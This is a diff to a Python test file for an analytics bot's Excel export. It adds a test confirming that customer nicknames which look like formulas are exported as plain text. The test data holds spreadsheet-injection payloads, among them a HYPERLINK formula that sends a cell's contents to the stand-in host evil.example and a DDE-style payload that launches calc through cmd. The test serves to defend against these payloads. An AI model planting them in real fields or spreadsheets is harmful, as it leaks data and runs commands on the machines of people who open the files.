@@ -9,6 +9,7 @@ from datetime import UTC, datetime, timedelta
 import openpyxl
 import pytest
 
+from bot.contacts.models import Customer
 from bot.radar.analytics import figures as radar_stats
 from bot.radar.analytics import network as radar_network
 from bot.radar.analytics.figures import CustomerFilter
@@ -268,6 +269,27 @@ async def test_export_writes_the_overview_and_the_filtered_customers(on_company)
     assert rows[0][:4] == ("客户", "external_userid", "所属成员", "客户层级")
     assert [r[0] for r in rows[1:]] == ["吴用", "钱多多", "孙悟空", "王小明", "赵丽"]  # s1's customers
     assert rows[2][2:] == ("张三", "2级", rows[2][4], 10, 30, "客户分享", 2, 1)
+
+
+async def test_a_nickname_that_reads_like_a_formula_is_exported_as_text(on_company):
+    company, radar, ids = on_company
+    hostile = {
+        "A": '=HYPERLINK("http://evil.example/?"&A2,"点我")',
+        "B": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "C": "+1+1",
+        "D": "-1+1",
+    }
+    for key, name in hostile.items():
+        await Customer.filter(external_userid=ids[key]).update(name=name)
+    await Radar.filter(id=radar.id).update(name="=1+1")
+    await login(company.client, company.emulator, "ops")
+    response = await company.client.get(f"/console/radar/radars/{radar.id}/analytics/customers.xlsx")
+    book = openpyxl.load_workbook(io.BytesIO(await response.read()))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    names = {row[0] for row in book["客户分析"].iter_rows(values_only=True)}
+    assert set(hostile.values()) <= names  # shown as the customers typed them
+    assert book["概览"]["B1"].value == "=1+1"
 
 
 async def test_batch_tag_marks_the_tag_in_wecom_as_a_follower_and_says_who_could_not(on_company):
